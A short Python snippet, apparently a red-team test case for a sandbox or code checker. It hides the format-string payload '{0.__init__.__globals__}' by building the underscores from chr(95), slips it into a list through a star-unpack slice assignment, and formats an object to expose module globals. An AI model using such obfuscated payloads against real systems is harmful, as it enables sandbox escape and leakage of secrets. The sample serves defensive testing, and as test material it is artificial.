# family: red team, round 60b (star-unpack assignment into a slice of the table)
U = chr(len("x" * 95)) * 2
EVIL = "{0." + U + "init" + U + "." + U + "globals" + U + "}"


class K:
    def __init__(self):
        self.v = 1


T = ["{0}"]
[*T[0:1]] = [EVIL]
print(T[0].format(K()))
